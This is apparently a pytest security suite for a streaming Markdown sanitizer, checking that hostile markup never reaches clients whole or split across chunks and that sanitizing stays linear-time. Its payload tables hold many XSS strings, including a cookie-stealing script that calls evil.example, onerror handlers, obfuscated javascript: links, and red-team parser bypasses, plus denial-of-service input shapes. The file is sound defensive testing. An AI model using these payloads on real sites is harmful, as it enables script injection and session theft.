"""Hostile markup against the sanitizer: nothing a browser or a Markdown renderer would turn into
markup reaches a consumer, however the markup is cased, quoted, nested, left open or split over
chunks; and no shape of input makes sanitizing cost more than linear time.

Safety is judged by ``tests/security/markup_oracle.py``: the output is rendered as CommonMark with
raw HTML enabled (what a consumer's client does) and the resulting HTML is inspected, so the check
shares nothing with the sanitizer's own reading of the text."""

from __future__ import annotations

import gc
import html
import itertools
import re
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from routing import sanitize
from routing.sanitize import ChunkSanitizer, TagStripper, strip_tags
from tests.routing.test_sanitize import CODE_ANSWERS
from tests.security.markup_oracle import offences


def stream(pieces: list[str]) -> str:
    stripper = TagStripper()
    return "".join(stripper.feed(piece) for piece in pieces) + stripper.flush()


HOSTILE = {
    "script": "Hi <script>fetch('//evil.example/?c='+document.cookie)</script> there",
    "script uppercase": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script self-closed": "<script/src=//evil.example/x.js>",
    "img onerror": "<img src=x onerror=alert(1)>",
    "img onerror uppercase": "<IMG SRC=x ONERROR=alert(1)>",
    "quoted gt": '<img alt=">" onerror=alert(1)>',
    "single quoted gt": "<img alt='>' onerror=alert(1)>",
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "svg onload": "<svg onload=alert(1)><circle r=1 /></svg>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "math href": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "event handler on unknown element": "<x-card onmouseover=alert(1) style=display:block>",
    "style overlay": '<div style="position:fixed;inset:0">login here</div>',
    "unclosed img": "<img src=x onerror=alert(1) ",
    "unclosed quote": '<img alt="x onerror=alert(1)>',
    "nested": "<<b>script>alert(1)<</b>/script>",
    "joined by removal": "<scr<b>ipt>alert(1)</scr<i>ipt>",
    "comment": "<!-- <script>alert(1)</script> -->shown",
    "unclosed comment": "shown<!-- <img src=x onerror=alert(1)>",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "doctype and pi": "<!DOCTYPE html><?php system('id'); ?>",
    "tag across lines": "<img\nsrc=x\nonerror=alert(1)>",
    "span opened to smuggle": "look: `<img src=x onerror=alert(1)> no closing backtick",
    "span across lines": "`a\n<img src=x onerror=alert(1)>`",
    "escaped backtick": "\\`<img src=x onerror=alert(1)>`",
    "table cell split": "| `x|<img src=x onerror=alert(1)>` |\n|---|",
    "indented fence": "    ```\n<img src=x onerror=alert(1)>\n    ```",
    "fence in quote": "> ```\n<img src=x onerror=alert(1)>\n```",
    "html block then code": "<T>\n`<img src=x onerror=alert(1)>`",
    "html block then fence": "<T>\n```\n<img src=x onerror=alert(1)>\n```",
    "fence in list dedented": "- ```\n<img src=x onerror=alert(1)>\n  ```",
    "crlf": "<img\r\nsrc=x onerror=alert(1)>\r\n```\r\n<b>code</b>\r\n```\r\n<i>x</i>",
    "lone cr": "```\r<b>code</b>\r```\r<img src=x onerror=alert(1)>",
    "backticks joined by removal": "``<b>`\n<img src=x onerror=alert(1)>\n```",
    "tildes joined by removal": "~~<b>~\n<img src=x onerror=alert(1)>\n~~~",
    "markup inside a tag left open at the end": "x <u a='</script>on<style>y",
    "markup inside a kept tag": "<x-y<U a='\r&lt;<U a='</script>on<style><!</script>",
    # Red-team round 2, F2: a cut inside the indentation of a line in a fence.
    "fence line cut in its indentation": "- ~~~\n \n <img src=x onerror=alert(1)>",
    # F3: a tab after the list item's indentation makes the line a closing fence.
    "tab before a closing fence": "- ```\n  a\n  \t```\n  <img src=x onerror=alert(1)>\n",
    # Red-team round 3, F7: "</" and no letter is a bogus comment in a raw HTML block.
    # F5a: list items followed to accept fences in nested lists; a line indented less than the
    # item ends it and its fence, a lazy line does not open one.
    "dedent out of a nested fence": "- a\n  - b\n    ```\n  <img src=x onerror=alert(1)>\n",
    "dedent by one column": "- a\n    - b\n      ```\n     <img src=x onerror=alert(1)>\n",
    "column 0 ends the list and its fence": "1. a\n   ```\n<img src=x onerror=alert(1)>\n",
    "fence after a lazy line": "- a\nlazy\n     ```\n<img src=x onerror=alert(1)>\n     ```",
    "ordered list from 2 after text": "x\n2. ```\n<img src=x onerror=alert(1)>\n```\n<b>y</b>",
    "indented code, not a fence": "- a\n\n      ```\n      <img src=x onerror=alert(1)>\n",
    "top-level fence in a degraded list": (
        "- a\n\t```\n\t<b>x</b>\n```\n<img src=x onerror=alert(1)>\n\n```\n"
        "<img src=x onerror=alert(1)>\n```\n<img src=x onerror=alert(1)>"
    ),
    "empty item then fence": "-\n  ```\n<img src=x onerror=alert(1)>\n  ```",
    "empty item ended by a blank line": "-\n\n  ```\n x\n```\n<img src=x onerror=alert(1)>\n```",
    "reference definition in an item": (
        "- a\n\n  [x]: /u\nfoo\n     ```\n     <img src=x onerror=alert(1)>\n     ```"
    ),
    "table in an item": "- a | b\n  :-|-\nfoo\n     ```\n     <img src=x onerror=alert(1)>\n",
    "setext underline in an item": (
        "- a\n  b\n  -\nc\n     ```\n     <img src=x onerror=alert(1)>\n"
    ),
    "list item in a raw html block": (
        "<T>\n- x\n\n  ```\ny\n```\n<img src=x onerror=alert(1)>\n```"
    ),
    "item of indented code": "-     code\nc\n     ```\n     <img src=x onerror=alert(1)>\n",
    # A dedented line in a fence that its markup empties ends nothing for a renderer (this one
    # predates round 3).
    "dedented markup in a list fence": (
        "- ```\n<img src=x onerror=alert(1)>\n  ```\n  <img src=x onerror=alert(1)>"
    ),
    "dedented markup in a nested fence": (
        "- a\n  ```\n<b></b>\n  ```\n  <img src=x onerror=alert(1)>"
    ),
    # F5c: one backslash before a "|" keeps a code span whole in a table; two may not.
    "pipe after two backslashes in a table": "| `a\\\\|<img src=x onerror=alert(1)>` |\n|---|",
    "end tag without a name in an html block": "<T>\n</ x>hidden</T>\n</1>more\n</",
    # Red-team round 4, F1: a fence line with a "|" in its info string is a table's header row
    # when a delimiter row follows (GFM looks for tables first): its "code" is HTML.
    "fence line that heads a table": "```js|<img src=x onerror=alert(1)>\n-|-\n<b>x</b>\n```",
    "fence line of a space and a pipe": "``` |\n:-\n<img src=x onerror=alert(1)>",
    "tilde fence line with an escaped pipe": "~~~\\|<script>\n--",
    "fence line in an item that heads a table": "- ``` a|<img src=x onerror=alert(1)>\n  -|-",
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_markup_never_reaches_a_consumer_whole_or_split_anywhere(name):
    text = HOSTILE[name]
    whole = strip_tags(text)
    assert offences(whole) == []
    for cut in range(1, len(text)):
        assert stream([text[:cut], text[cut:]]) == whole, cut
    assert stream(list(text)) == whole


def test_an_end_tag_without_a_name_in_a_raw_html_block_hides_no_text():
    # Red-team round 3, F7: in a raw HTML block the browser's tokenizer reads "</ x>" as a bogus
    # comment, and the text in it disappears; in a paragraph a renderer shows it as text.
    text = "<T>\n</ x>hidden\nx </\n"
    for pieces in ([text], list(text)):
        out = stream(pieces)
        assert out == "<T>\n/ x>hidden\nx /\n"
        assert offences(out) == []
    assert strip_tags("a </ x> b") == "a </ x> b"


def test_the_oracle_sees_what_the_old_sanitizer_let_through():
    # The checker is worth something only if it flags real markup.
    assert offences("<T>\n`<img src=x onerror=alert(1)>`")
    assert offences("<x-y onmouseover=alert(1)>hi")
    assert offences("a <b>bold</b>")
    assert not offences("a `<b>` and\n```\n<script>\n```\nList<String>")
    # ... and both presets render honest Markdown without complaint (gfm-like: links made from
    # bare URLs, strikethrough, tables).
    assert not offences("~~old~~ see www.example.com or https://example.com/a?b=1\n\n"
                        "| a | b |\n|:-|-:|\n| `x` | ~~y~~ |\n")


# --- Properties ----------------------------------------------------------------------------------

FRAGMENTS = [
    "<", ">", "/", "`", "``", "```", "~~~", "\n", "\r\n", "\r", " ", "   ", "    ", "\t", "- ",
    "1. ", "2. ", "> ", "|", "\\", "=", '"', "'", "!", "?", "-", "#", "*", "a", "x", "on", "b",
    "script", "style", "img", "div", "svg", "<b>", "</b>", "<i", "<p", "<script>", "</script>",
    "<style>", "<img src=x onerror=alert(1)>", "<a href=", "<T>", "<T onmouseover=1>", "<U a='",
    "<x-y", "<!--", "-->", "<?", "<!", "<![CDATA[", "]]>", "onerror=alert(1)", "&lt;", "\n\n",
    "~~", "www.a.co", "http://a.co/", "a@b.co", "](", "[x", ")",
    # Nested lists (red-team 3, F5a).
    "\n   - ", "\n     ", "\n  - ", "\n      ", "lazy",
    # Closed tags and autolinks, after which backticks pair again (red-team 3, F5b).
    "<https://a.co>", "<a@b.co>", "<T a='>'>", "<T a=`>", "</T >", "\u2003", "\u00a0", "\\|",
    # Link destinations that run script (F8).
    "javascript:", "JaVa", "script:", "vbscript:", "data:", "&#x6A;", "&colon;", "&Tab;", "]:",
    "<javascript:", "[x](", "![x](", "(",
]
hostile_text = st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=40).map("".join)
some_text = st.one_of(hostile_text, st.text(alphabet="<>/`~\n\r -1.|\\ab=\"'!?", max_size=60))
FAST = settings(max_examples=250, deadline=None,
                suppress_health_check=[HealthCheck.too_slow])


def pieces_of(text: str, cuts: list[int]) -> list[str]:
    cuts = sorted({min(cut, len(text)) for cut in cuts})
    return [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]


@FAST
@given(some_text)
def test_no_element_tag_reaches_a_consumer_outside_code(text):
    assert offences(strip_tags(text)) == []


@FAST
@given(some_text, st.lists(st.integers(min_value=0, max_value=60), max_size=6))
def test_chunking_never_changes_the_result(text, cuts):
    assert stream(pieces_of(text, cuts)) == strip_tags(text)


@FAST
@given(st.text(max_size=80).filter(lambda t: "<" not in t),
       st.lists(st.integers(min_value=0, max_value=80), max_size=5))
def test_text_without_a_lt_is_never_changed(text, cuts):
    out = stream(pieces_of(text, cuts))
    if "]" not in text:
        assert out == text
    else:
        # A link destination may get a "#" before it (red-team 3, F8); nothing else changes.
        assert out.replace("#", "") == text.replace("#", "")


# --- Cost ----------------------------------------------------------------------------------------

K = 100_000
WORST_SHAPES = {
    "lt a gt b (the issue's chunk)": "<" * 30000 + "a" + ">b" * 30000,
    "lt run": "<" * K,
    "lt gt alternating": "<>" * (K // 2),
    "nested open tags": "<b" * (K // 2),
    "unclosed element tags": "<a " * (K // 3),
    "complete tags": "<a>" * (K // 3),
    "non-element tags": "<T>" * (K // 3),
    "non-element unclosed": ("<T a='" + "y" * 20) * (K // 26),
    "quoted gt": ('<T a=">" ' * 10 + "\n") * (K // 101),
    "tags on lines": "<T\n" * (K // 3),
    "scripts": "<script></script>" * (K // 17),
    "comments": "<!---->" * (K // 7),
    "end tag starts": "</" * (K // 2),
    "backticks and lines": "`a`\n" * (K // 4),
    "fences opening and closing": "```\n```\n" * (K // 8),
    "mixed": ("<b>x</b> `<i>` a<b c>d\n```\n<div>\n```\n" * 3000)[:K],
    # Safe-looking tags, each with an event handler in or right after it (red-team 2, F1).
    "non-element tags with a handler": ("<T on=1>" * (K // 8 + 1))[:K],
    "handler after a tag": ("<T> on=" * (K // 7 + 1))[:K],
    "handler after a tag and a tab": ("<T>\ton=" * (K // 7 + 1))[:K],
    # Red-team round 3: "<?" and "<!" held until a ">", a blank line or MAX_TAG_CHARS.
    "unclosed processing instructions": "<?" * (K // 2),
    "unclosed declarations over lines": "<!x \n" * (K // 5),
    "unclosed declarations over blank lines": "<!x\n \n" * (K // 7),
    # Link destinations held until their scheme is known (F8).
    "link openers": "](" * (K // 2),
    "destinations held to the bound": ("](" + " " * 300) * (K // 302),
    "destinations of entities": ("](" + "&Tab;" * 60 + "x") * (K // 303),
    "destinations of unfinished entities": ("](&#x" + "0" * 5) * (K // 10),
    "scheme prefixes": "](javascrip" * (K // 12),
    # Lines followed one by one (F5a), and a fence whose lines each need a look (a tab before
    # them): one step of the scanner read them all before the allowance was looked at again.
    "list lines": "- a\n" * (K // 4),
    "tab-indented lines in a list's fence": "- ```\n" + "\tx\n" * (K // 3),
    # Red-team round 4, F3: every list marker of a line's prefix is followed, one by one.
    "lines of many list markers": (("- " * 30 + "a\n") * (K // 61 + 1))[:K],
}


# An honest answer: code in several languages, lists, tables, links.
ANSWER = "".join(CODE_ANSWERS.values()) * 4


def cost_per_10kb(text: str, piece: int) -> float:
    """Best of three: milliseconds of sanitizing per 10 KB, fed in pieces of ``piece``. CPU time
    without garbage collection, so that neither a loaded machine nor the rest of the test
    process counts against it."""
    best = float("inf")
    gc.collect()
    gc.disable()
    try:
        for _ in range(3):
            stripper = TagStripper()
            start = time.thread_time()
            for at in range(0, len(text), piece):
                stripper.feed(text[at : at + piece])
            stripper.flush()
            best = min(best, time.thread_time() - start)
    finally:
        gc.enable()
    return best * 1000 / (len(text) / 10_000)


@pytest.fixture
def unguarded(monkeypatch):
    """The sanitizer's own cost, without the work allowance that would stop it."""
    monkeypatch.setattr(sanitize, "MAX_SAVED_UNITS", 10**15)
    monkeypatch.setattr(sanitize, "UNITS_PER_PIECE", 10**15)


@pytest.mark.parametrize("name", list(WORST_SHAPES))
def test_sanitizing_is_linear_in_the_input_for_the_worst_shapes(name, unguarded):
    text = WORST_SHAPES[name]
    small = text[: len(text) // 10]
    for piece in (len(text), 1000):
        full = cost_per_10kb(text, piece)
        # Ten times the text costs about ten times as much (the old sanitizer: a hundred times),
        # and the cost stays far from the old 2.7 s per 10 KB (measured: 0.1-20 ms per 10 KB).
        assert full < 3 * cost_per_10kb(small, min(piece, len(small))) + 1
        assert full < 100


def test_the_issues_chunk_is_sanitized_in_full_within_its_allowance():
    text = WORST_SHAPES["lt a gt b (the issue's chunk)"]
    stripper = TagStripper()
    out = stripper.feed(text)
    assert stripper.spent <= stripper.allowed  # (it took 24 s before; about 2 ms now)
    assert out.endswith("b>b") and stripper._mode != sanitize._PANIC  # the full rule applied


# The allowance is checked after every step of the scanner, and within a step after every tag on
# the output and every link destination: one such step (at most a window of 1 KB of prose) is the
# most a piece can spend beyond what it was allowed.
STEP_SLACK = 16_384


@pytest.mark.parametrize("name", list(WORST_SHAPES))
def test_no_piece_does_more_work_than_its_allowance(name):
    text = WORST_SHAPES[name]
    for piece in (len(text), 1000):
        stripper = TagStripper()
        out = []
        for at in range(0, len(text), piece):
            out.append(stripper.feed(text[at : at + piece]))
            assert stripper.spent <= stripper.allowed + STEP_SLACK
        out.append(stripper.flush())
    # Safe also once the allowance ran out, judged on the output in 1 KB pieces only: rendering
    # 100 KB takes the oracle up to 8 s a shape, and the suite has a time budget.
    assert offences("".join(out)) == []


def test_the_allowance_runs_out_at_the_same_place_whatever_the_clock_says(monkeypatch):
    # Red-team 3, F6: the allowance was CPU time, so a pause for garbage collection or a busy
    # machine changed what a consumer got for the same answer. It is counted work now.
    costly = [WORST_SHAPES["mixed"][at : at + 1000] for at in range(0, 30_000, 1000)]
    honest = [ANSWER[at : at + 4] for at in range(0, len(ANSWER), 4)]
    before = stream(costly), stream(honest)
    stripper = TagStripper()
    for piece in costly:
        stripper.feed(piece)
    assert stripper._mode == sanitize._PANIC  # it does run out, part way
    clock = itertools.count()
    # A clock that jumps by a second every time it is read, as on a machine that stalls.
    for name in ("thread_time", "perf_counter", "monotonic", "process_time"):
        monkeypatch.setattr(time, name, lambda: float(next(clock)))
    assert (stream(costly), stream(honest)) == before
    assert before[1] == ANSWER


def test_lines_of_many_list_markers_pay_for_every_marker():
    # Red-team round 4, F3: such lines cost about 4 ms per 10 KB, four times what a stream earns,
    # yet a line was charged as one step whatever its prefix, and the allowance never ran out.
    text = WORST_SHAPES["lines of many list markers"]
    stripper = TagStripper()
    for at in range(0, len(text), 1000):
        stripper.feed(text[at : at + 1000])
    assert stripper._mode == sanitize._PANIC
    assert offences(stripper.flush()) == []


@pytest.mark.parametrize("size", [1, 3, 5, 16, 64])
def test_an_honest_answer_streamed_in_tokens_never_runs_out(size):
    stripper = TagStripper()
    out = []
    for at in range(0, len(ANSWER), size):
        out.append(stripper.feed(ANSWER[at : at + size]))
        assert stripper._mode != sanitize._PANIC
    assert "".join(out) + stripper.flush() == ANSWER


@pytest.mark.parametrize("shape", ["<T on=1>", "<T> on=", "<T>\ton="])
def test_a_frame_of_costly_1kb_chunks_gets_no_more_work_than_its_allowance(shape):
    # Red-team 2, F1: one inference_chunks frame of 92 chunks of 1,000 characters took 160-260 ms
    # of the event loop (the allowance was checked before every 4th step only, and each "<" in a
    # step rescanned 4 KB). The relay cleans a frame's chunks in one go, so their work is what
    # the event loop loses: now at most what the frame earned (about 1 ms per 10 KB, 50 us per
    # chunk and 3 ms saved up, on the machine the units were measured on) and one step.
    body = (shape * 200)[:1000]
    chunk = {"message": {"role": "assistant", "content": body}, "done": False}
    count = 92
    allowance = (count * (len(body) * sanitize.UNITS_PER_CHAR + sanitize.UNITS_PER_PIECE)
                 + sanitize.MAX_SAVED_UNITS)
    sanitizer = ChunkSanitizer()
    shown = []
    spent = 0
    for _ in range(count):
        shown.append(sanitizer.clean(chunk))
        spent += sanitizer.content.spent
    assert spent <= allowance + STEP_SLACK
    shown.append(sanitizer.clean({"message": {"role": "assistant", "content": ""}, "done": True}))
    text = "".join(c["message"].get("content", "") for c in shown if c is not None)
    assert offences(text) == []


# Red-team round 3, F8: links and images to URLs that run script, however the scheme is spelled.
SCRIPT_LINKS = {
    "link": "[click](javascript:alert(1))",
    "image": "![pic](JAVASCRIPT:alert(1))",
    "vbscript": "[x](vbscript:msgbox(1))",
    "data": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "entity in the scheme": "[x](java&#x73;cript:alert(1))",
    "decimal entities and colon": "[x](&#106;avascript&colon;alert(1))",
    "escaped colon": "[x](javascript\\:alert(1))",
    "tab in the scheme": "[x](<JaVa\tScript:alert(1)>)",
    "entity tab and line break": "[x](&Tab;java&NewLine;script:alert(1))",
    "leading space entity": "[x](&#32;javascript:alert(1))",
    "bracketed and spaced": "[x]( <javascript:alert(1)> )",
    "space before the parenthesis": "[x] (javascript:alert(1))",
    "reference definition": "[x]\n\n[x]: javascript:alert(1)",
    "reference definition on the next line": "[x]\n\n[x]:\n  javascript:alert(1)",
    "after removed markup": "[x]<b></b>(javascript:alert(1))",
    "autolink": "<javascript:alert(1)>",
    "autolink in a kept tag": "<T a=<javascript:alert(1)>",
    "autolink after a lt": "<<javascript:alert(1)>",
    # Red-team round 4, F2: the prose after a code span was passed on as code, unguarded.
    "code span as the link text": "See [`code`](javascript:alert(1)) now",
    "code spans in and before the link text": "`a` b [`c` d `e`](javascript:alert(1))",
}


@pytest.mark.parametrize("name", list(SCRIPT_LINKS))
def test_a_link_to_a_script_url_never_reaches_a_consumer(name):
    text = SCRIPT_LINKS[name]
    whole = strip_tags(text)
    # no renderer, not even one that lets every link through, makes a script link of it
    assert offences(whole) == []
    # and the browser's reading of the URL (tabs and line breaks dropped) finds none either
    for link in re.findall(r"\]\s*\(\s*<?([^)>]*)|\]:\s*(\S*)|<([^\s<>]*)>", whole):
        url = html.unescape("".join(link)).replace("\\", "")
        url = re.sub(r"[\t\n\r]", "", url).lstrip("".join(map(chr, range(33)))).lower()
        assert not url.startswith(("javascript:", "vbscript:", "data:")), url
    for cut in range(1, len(text)):
        assert stream([text[:cut], text[cut:]]) == whole, cut
    assert stream(list(text)) == whole


@pytest.mark.parametrize(
    "text",
    [
        "See [the docs](https://example.com/a?b=1&c=2) and ![logo](./logo.png \"Logo\").",
        "[ref]: https://example.com\n[mail](mailto:a@b.co) [rel](java/script:x) [d](database:1)",
        "```\n[x](javascript:alert(1))\n```\n`[y](javascript:1)`\n",
    ],
)
def test_links_to_other_urls_and_code_pass_unchanged(text):
    assert strip_tags(text) == text


# Red-team round 2, F4: a backtick that a renderer reads as part of a link, an autolink or an
# address, not as the start of a code span. What follows it is prose, and its markup goes.
SWALLOWED_BACKTICKS = {
    "link destination": "[x](`) <img src=x onerror=alert(1)> `",
    "link title": '[x](u "`") <img src=x onerror=alert(1)> `',
    "image destination": "![x](`) <img src=x onerror=alert(1)> `",
    "angle destination": "[x](<`>) <img src=x onerror=alert(1)> `",
    "email autolink": "<`@a.co> <img src=x onerror=alert(1)> `",
    "email autolink after a digit": "<1`@a.co> <img src=x onerror=alert(1)> `",
    "url autolink": "http://a.co/` <img src=x onerror=alert(1)> `",
    "www autolink": "www.a.co/` <img src=x onerror=alert(1)> `",
}


@pytest.mark.parametrize("name", list(SWALLOWED_BACKTICKS))
def test_a_backtick_a_renderer_reads_as_part_of_a_link_opens_no_code(name):
    text = SWALLOWED_BACKTICKS[name]
    whole = strip_tags(text)
    assert "<img" not in whole
    assert offences(whole) == []
    for cut in range(1, len(text)):
        assert stream([text[:cut], text[cut:]]) == whole, cut
